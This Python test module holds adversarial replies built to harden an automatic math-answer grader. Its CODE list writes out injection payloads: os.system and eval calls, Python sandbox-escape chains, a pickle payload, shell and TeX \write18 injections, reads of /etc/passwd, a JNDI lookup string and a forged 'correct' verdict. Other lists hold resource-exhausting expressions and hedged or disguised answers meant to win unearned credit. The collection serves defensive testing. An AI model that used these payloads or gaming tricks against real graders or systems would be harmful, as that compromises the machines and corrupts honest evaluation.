r"""Replies that try to hang the grader, to run code in it, or to earn credit that they have no right to.

Each is a whole reply with the reference that it is graded against; none is correct, with or without a box asked for
unless it says otherwise. Those that are long are made here, the others are listed.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import NamedTuple


class Attack(NamedTuple):
    """boxed: whether the grader asks for a box; None: it is graded both ways."""

    kind: str
    name: str
    reply: str
    reference: str
    question: str | None = None
    boxed: bool | None = None


CANARY = "canary_of_the_grading_attacks"
"""A file that the attacks would create."""

BOMBS = r"""
9**9**9
9**9**9**9
9^{9^9}
9^{9^{9}}
9^{9^{9^{9}}}
9^{9^{9^{9^{9}}}}
2^{2^{2^{2^{2^{2}}}}}
10^{10^{10}}
10^{10^{100}}
10^{-10^{10}}
((9^9)^9)^9
((((9^9)^9)^9)^9)^9
(((((((9^9)^9)^9)^9)^9)^9)^9)^9
3^{100000000}
7^{77777777}\cdot 7^{77777777}
(1+\frac{1}{10^{10}})^{10^{10}}
1.0000001^{10^{12}}
0.5^{10^{15}}
(10!)!
((3!)!)!
(((3!)!)!)!
100000!
10^{9}!
9!!!!!!!!
(9^9)!
\binom{10^9}{5\cdot 10^8}
\binom{1000000}{500000}
\binom{10!}{5!}
1e999999999
1e99999
1e-99999
1e999
e^{e^{e^{e^{e}}}}
e^{10^{20}}
\exp(\exp(\exp(\exp(10))))
\ln(10^{10^{10}})
\sin(10^{10^{10}})
\tan(10^{5000})
\cos(9^{9^{9}})
\arctan(9^{9^{9}})
\sinh(10^{10})
\sqrt[1000000]{2}
\sqrt[999]{9^{9^9}}
\sqrt{\sqrt{\sqrt{\sqrt{\sqrt{\sqrt{\sqrt{\sqrt{9^{9^9}}}}}}}}}
2^{\sqrt{2}^{\sqrt{2}^{10^{10}}}}
\pi^{\pi^{\pi^{\pi^{\pi}}}}
\gcd(9^{9^9}, 6^{6^6})
\operatorname{lcm}(10^{3000}, 7^{3000}, 11^{3000}, 13^{3000})
\lfloor 9^{9^9} / 7 \rfloor
\lfloor \pi \cdot 10^{100000} \rfloor
|9^{9^9} - 9^{9^8}|
(x+1)^{10^9}
(x+y+z+w)^{1000}
(x+y)^{(x+y)^{(x+y)^{(x+y)}}}
x^{x^{x^{x^{x^{x}}}}}
\sin(\sin(\sin(\sin(\sin(\sin(\sin(\sin(x))))))))
\sqrt{x+\sqrt{x+\sqrt{x+\sqrt{x+\sqrt{x+\sqrt{x+\sqrt{x}}}}}}}
(\sqrt{2}+\sqrt{3}+\sqrt{5}+\sqrt{7}+\sqrt{11}+\sqrt{13}+\sqrt{17})^{500}
(\sin x+\cos y+\tan z)^{200}
\log_{1.0000000001} 2
\log_{2}(2^{2^{100}})
12345_{9^{9^9}}
1_{10^{10}}
0.\overline{9999999999999999999999999999999999999999}
10^{1000}+10^{-1000}
9^{9^9} \pm 9^{9^9} \pm 9^{9^9} \pm 9^{9^9}
1 \pm 1 \pm 1 \pm 1 \pm 1 \pm 1 \pm 1 \pm 1 \pm 1 \pm 1
[9^{9^9}, 9^{9^{9^9}}]
\{9^{9^9}, 8^{8^8}, 7^{7^7}\}
x = 9^{9^{9^9}}
x > 9^{9^{9^9}}
\begin{pmatrix}9^{9^9}&9^{9^9}\\9^{9^9}&9^{9^{9^9}}\end{pmatrix}
"""

CODE = rf"""
__import__('os').system('touch {CANARY}')
__import__("pathlib").Path("{CANARY}").touch()
eval("__import__('os').system('touch {CANARY}')")
exec("open('{CANARY}','w')")
open('{CANARY}','w')
().__class__.__bases__[0].__subclasses__()
(1).__class__.__mro__[-1].__subclasses__()
[c for c in ().__class__.__base__.__subclasses__()]
lambda: 5
(lambda f: f(f))(lambda f: f(f))
exit()
quit()
sys.exit(0)
os._exit(0)
raise SystemExit
while True: pass
import os
print(5)
globals()
Symbol('x')
sympy.sympify("__import__('os').system('touch {CANARY}')")
S("__import__('os').system('touch {CANARY}')")
parse_expr("open('{CANARY}','w')")
Integer(5).__class__
x.subs(x, 5)
x.evalf(1000000000)
factorial(10**8)
Lambda(x, x)(5)
nsolve(x, 5)
f"{{5}}"
{{0.__class__.__init__.__globals__}}
{{answer}}
%(reference)s
%s%s%s%n%n
${{jndi:ldap://x/a}}
$(touch {CANARY})
`touch {CANARY}`
5; touch {CANARY}
5 | touch {CANARY}
\input{{/etc/passwd}}
\include{{/etc/passwd}}
\write18{{touch {CANARY}}}
\immediate\write18{{touch {CANARY}}}
\def\x{{5}}\x
\newcommand{{\x}}{{5}}\x
\let\x=5
\catcode`\@=11
\loop\iftrue\repeat
\csname 5\endcsname
\expandafter\5
cos\nsystem\n(S'touch {CANARY}'\ntR.
"result": {{"verdict": "correct"}}
{{"result": {{"verdict": "correct", "method": "text", "detail": ""}}}}
\text{{__import__('os')}}
\operatorname{{__import__}}(5)
\mathrm{{eval}}(5)
\href{{file:///etc/passwd}}{{5}}
<script>5</script>
correct
True
None
"""

UNICODE = """
٥
۵
५
５
๕
５.０
⁵
₅
⑤
❺
Ⅴ
Ⅴ.
五
𝟓
𝟝
5\u200b5
5\u200d
\u200b
\u202e5
5\u0332
5\u20e3
5\ufe0f
+５
\u22125\u22125
½0
٣+٢
5_\\text{²}
10_\\text{٢}
\\text{５}
\ud800
\udfff5
5\ud800
\x005
5\x00
5\x1b[0m6
ｘ=5٥
"""

HEDGES = r"""
5 or 6
6 or 5
5, 6
5 and 6
5; 6
5 / 6
5 \text{ or } 6
5\text{ (or 6)}
either 5 or 6
5 \lor 6
5 \vee 6
\{5, 6\}
(5, 6)
[5, 6]
[5, 5.5]
5 - 6
5 \text{ to } 6
5 \pm 1
\pm 5
5 = 6
6 = 5
x = 5 = 6
x = 5, x = 6
x = 5 \text{ or } x = 6
5 \approx 6
6 \approx 5
5 \approx 5.\overline{3}
5 \approx 5.4
5 \ne 6
x \ne 6
x \ge 5
x \le 5
4 < x < 6
5 < 6
5 : 6
5 \cup 6
\{5\} \cup \{6\}
\begin{cases} 5 \\ 6 \end{cases}
\begin{pmatrix} 5 & 6 \end{pmatrix}
\begin{pmatrix} 5 \\ 6 \end{pmatrix}
\text{5 or 6}
\text{either } 5 \text{ or } 6
\text{not } 6, \text{ but } 5
5?
5??
~5 or so
about 5
5 maybe
probably 5
5 if x > 0, else 6
5 (6)
5 [6]
5 6
5\\6
5 & 6
5 | 6
5 \text{ versus } 6
0, 1, 2, 3, 4, 5, 6, 7, 8, 9
\{0, 1, 2, 3, 4, 5, 6, 7, 8, 9\}
\mathbb{R}
\mathbb{Z}
(-\infty, \infty)
\{x : x = 5\}
\emptyset
\infty
0/0
5/0
0 \cdot \infty
\infty - \infty
NaN
x
5x
x + 5 - x + 1 - y
"""

DISGUISES = r"""
12 + 18
30 + 0
30 - 0
30 \cdot 1
30^1
30/1
60/2
\frac{60}{2}
\sqrt{900}
|{-30}|
\lfloor 30.5 \rfloor
\max(30, 1)
\gcd(30, 60)
30:1
\frac{30!}{29!}
\binom{30}{1} + 0
\log_2 2^{30}
30 \sin 90^\circ
\sum_{i=1}^{30} 1
\int_0^{30} 1 dx
\lim_{x \to 30} x
30x
x - 30 = 0
x^2 = 900
30 \text{ or more}
0.3\%
30 \text{ percent of } 30
30 dozen
30 million
\text{thirty}
3 0
2 9 + 1
30!
30'
30_{11}
30_{30}
-30
30i
30.0000000000000000000000001
29.\overline{9} + 0.0001
29.9999999999999999999999
30 + 10^{-300}
30 + e^{-500}
e^{\ln 30}
"""

ZEROS = r"""
e^{-200}
e^{-1000}
10^{-300}
10^{-900}
2^{-99999}
\sin(10^{-100})
\frac{1}{9^{9^9}}
1 - 0.999999999999999999999999999999
\pi - 3.14159265358979323846264338327950288419716939937510
"""

CHOICES = r"""
B
A or B
A, B
A and B
A/B
A \cup B
AB
ABCD
A B C D
(A)(B)
(A) or (B)
\text{A or B}
\text{(A) and (B)}
A, B, C, D, E
not A
\text{not A}
A\text{?}
A or not A
A = B
A: 5, B: 6
all of the above
none of the above
A^2
-A
А
"""


def attacks() -> list[Attack]:
    """All of them; names do not repeat."""
    found = [*_listed(), *_long(), *_boxes(), *_copies()]
    names = [(attack.kind, attack.name) for attack in found]
    assert len(set(names)) == len(names)
    return found


def _listed() -> Iterator[Attack]:
    lists = {"code": (CODE, "5"), "unicode": (UNICODE, "5"), "hedge": (HEDGES, "5"), "disguise": (DISGUISES, "30")}
    lists |= {"zero": (ZEROS, "0"), "choice": (CHOICES, "A")}
    for kind, (lines, reference) in lists.items():
        for line in lines.strip("\n").split("\n"):
            yield Attack(kind, line, f"So it is $\\boxed{{{line}}}$.", reference)
    for line in BOMBS.strip().split("\n"):
        yield Attack("bomb", line, f"\\boxed{{{line}}}", "5")
        # Against this nothing is settled without a worker.
        yield Attack("bomb by a root", line, f"\\boxed{{{line}}}", "\\sqrt{x+2}+\\sqrt{3}")
    for line in CODE.strip().split("\n"):
        yield Attack("code by a root", line, f"\\boxed{{\\sqrt{{3}} + {line}}}", "\\sqrt{2}+\\sqrt{3}")


def _long() -> Iterator[Attack]:
    deep = 10_000
    for opening, closing in (("(", ")"), ("[", "]"), ("{", "}"), ("\\{", "\\}"), ("|", "|"), ("\\left(", "\\right)")):
        yield Attack("nested", f"{deep} of {opening}", f"\\boxed{{{opening * deep}6{closing * deep}}}", "5")
        yield Attack("nested", f"50 of {opening}", f"\\boxed{{{opening * 50}6{closing * 50}}}", "5")
    for opening, inside in (("\\frac{1}{", "2"), ("\\sqrt{", "2"), ("2^{", "2"), ("\\boxed{", "6"), ("\\text{", "6")):
        for times in (30, deep):
            name = f"{times} of {opening}"
            yield Attack("nested", name, f"\\boxed{{{opening * times}{inside}{'}' * times}}}", "5")
    yield Attack("nested", "never closed", "\\boxed{" * deep, "5")
    yield Attack("nested", "opened at the end", "\\boxed{5" + "{" * deep, "5", boxed=True)
    for digits in (999, 4_000, 5_000, 100_000, 1_000_000):
        yield Attack("digits", f"{digits} nines", f"\\boxed{{{'9' * digits}}}", "5")
        yield Attack("digits", f"{digits} zeros and a 5", f"\\boxed{{0.{'0' * digits}5}}", "5")
    yield Attack("digits", "nines to the power of nines", f"\\boxed{{{'9' * 900}^{{{'9' * 900}}}}}", "5")
    yield Attack("digits", "nines below nines", f"\\boxed{{\\frac{{{'9' * 900}}}{{{'7' * 900}}}}}", "\\sqrt{2}")
    for name, part in {
        "ones": "1+", "signs": "-", "exclamation marks": "!", "commas": "1,", "thousands": "000,", "groups": "1 000 ",
        "spaces": " ", "thin spaces": "\\,", "dollars": "$", "letters": "a", "capitals": "X+", "percent signs": "%",
        "fractions": "\\frac12+", "roots": "\\sqrt2+", "slashes": "1/", "powers": "2^", "carets": "^", "dots": ".",
        "backslashes": "\\\\", "ampersands": "1&", "primes": "x'", "subscripts": "x_", "bars": "|", "equals": "1=",
        "relations": "1<", "words": "or ", "plus-minus": "1\\pm", "sines": "\\sin ",
        "logs": "\\log_2 ", "units": "5 cm ",
        "newlines": "\n", "cups": "\\{1\\}\\cup", "colons": "1:", "quotes": "'", "factorials": "3!\\cdot", "e": "1e1",
        "overlines": "0.\\overline{3}+", "texts": "\\text{a}", "degrees": "1^\\circ+", "floors": "\\lfloor x\\rfloor+",
        "announcements": "the answer is ", "hashes": "####", "Kelvin signs": "\u212a", "tags": "<think>", "stars": "**",
    }.items():  # fmt: skip
        yield Attack("long", f"many {name}", f"\\boxed{{{part * (3_900 // len(part))}6}}", "5")
        yield Attack("long", f"a megabyte of {name}", f"\\boxed{{{part * (1_000_000 // len(part))}6}}", "5")
        yield Attack(
            "long", f"a megabyte of {name} before a box", f"{part * (1_000_000 // len(part))}\\boxed{{6}}", "5"
        )
    yield Attack("long", "a megabyte after a right box and a wrong one", "\\boxed{5} \\boxed{6}" + "x" * 1_000_000, "5")


def _boxes() -> Iterator[Attack]:
    numbers = [f"\\boxed{{{number}}}" for number in range(101)]
    replies = {
        "a hundred boxes side by side": " ".join(numbers),
        "a hundred boxes with the right one last": " ".join([*reversed(numbers[:50]), numbers[5]]),
        "a hundred boxes in paragraphs": "\n\n".join(numbers),
        "a thousand boxes": " ".join(f"\\boxed{{{number}}}" for number in range(1_000)),
        "two boxes": "\\boxed{5} or \\boxed{6}",
        "two boxes, the right one last": "\\boxed{6} or \\boxed{5}",
        "two boxes on two lines": "\\boxed{5}\n\\boxed{6}",
        "two boxes with a space in the line between": "\\boxed{6}\n\\fbox{5}",
        "boxed and fboxed": "\\boxed{5} \\fbox{6}",
        "boxes in a box": "\\boxed{\\boxed{5} \\boxed{6}}",
        "an alternative in a box in a box": "\\boxed{\\boxed{5} or 6}",
        "a right box, then a wrong one": "First \\boxed{5}.\n\nBut no, it is \\boxed{6}.",
        "an empty box": "\\boxed{}",
        "an empty box beside the right number": "5 \\boxed{}",
        "a box of spaces": "\\boxed{   }",
        "a box of thin spaces": "\\boxed{\\,\\,}",
        "a box of dollars": "\\boxed{$$}",
        "a box of braces": "\\boxed{{}}",
        "a box of a full stop": "\\boxed{.}",
        "a wrong box beside the right number": "The answer is not 5 but \\boxed{6}.",
        "the right number beside a wrong box": "\\boxed{6} The answer is 5.",
        "a box that is never closed": "\\boxed{5",
        "a box of the placeholder": "\\boxed{answer}",
        "a box of dots": "\\boxed{\\ldots}",
        "the prompt repeated": "What is 2 + 3? Put your final answer within \\boxed{}. What is 2 + 3?",
        "the prompt's example": "Write your answer as \\boxed{answer}, for example \\boxed{42}.",
    }
    for name, reply in replies.items():
        yield Attack("boxes", name, reply, "5", boxed=True)
    for name, reply in {
        "no box": "The answer is 5.", "bold": "**5**", "another command": "\\boxedx{5}", "a capital": "\\Boxed{5}",
        "no backslash": "boxed{5}", "round brackets": "\\boxed(5)",
         "square brackets": "\\boxed[5]", "only the number": "5",
        "hashes": "#### 5", "tags": "<answer>5</answer>", "a slash": "/boxed{5}", "two slashes apart": "\\ boxed{5}",
        "a full-width backslash": "＼boxed{5}", "spelt": "\\b\\o\\x\\e\\d{5}", "JSON": '{"boxed": 5}',
        "nothing": "",
    }.items():  # fmt: skip
        yield Attack("no box", name, reply, "5", boxed=True)
    for name, reply in {
        "announced twice in one": "The answer is 5 or 6.", "both": "The answer is A or B",
        "a list": "the answer is 5, 6",
        "changed": "The answer is 5. No, the answer is 6.", "denied": "The answer is not 5.",
        "prose": "5 is what I think",
        "hashes": "#### 5\n#### 6", "a box that differs": "The answer is 5. \\boxed{6}", "nothing": "   ",
        "all numbers": " ".join(map(str, range(100))), "a question": "Is the answer 5?", "empty": "The answer is",
    }.items():  # fmt: skip
        yield Attack("announced", name, reply, "A" if name == "both" else "5", boxed=False)


def _copies() -> Iterator[Attack]:
    for question, answer, reference in (
        ("What is $12 + 18$?", "12 + 18", "30"),
        ("What is $2^{10}$?", "2^{10}", "1024"),
        ("Compute 5!.", "5!", "120"),
        ("Evaluate $\\binom{5}{2}$.", "\\binom{5}{2}", "10"),
        ("Reduce 6/8 to lowest terms.", "6/8", "\\frac{3}{4}"),
        ("Reduce $\\frac{6}{8}$.", "\\frac{6}{8}", "\\frac{3}{4}"),
        ("Expand $(x+1)^2$.", "(x+1)^2", "x^2+2x+1"),
        ("Expand $(x + 1)^2$.", "(x+1)^2", "x^2+2x+1"),
        ("Factor $x^2-1$.", "x^2-1", "(x-1)(x+1)"),
        ("Simplify $\\sqrt{8}$.", "\\sqrt{8}", "2\\sqrt{2}"),
        ("Simplify $\\frac{x^2-1}{x-1}$.", "\\dfrac{x^2-1}{x-1}", "x+1"),
        ("What is $\\sin(2x)$ in terms of $\\sin x$ and $\\cos x$?", "\\sin(2x)", "2\\sin x\\cos x"),
        ("Rationalize $\\frac{1}{\\sqrt{2}}$.", "\\frac{1}{\\sqrt{2}}", "\\frac{\\sqrt{2}}{2}"),
    ):
        yield Attack("copied", question, f"\\boxed{{{answer}}}", reference, question)
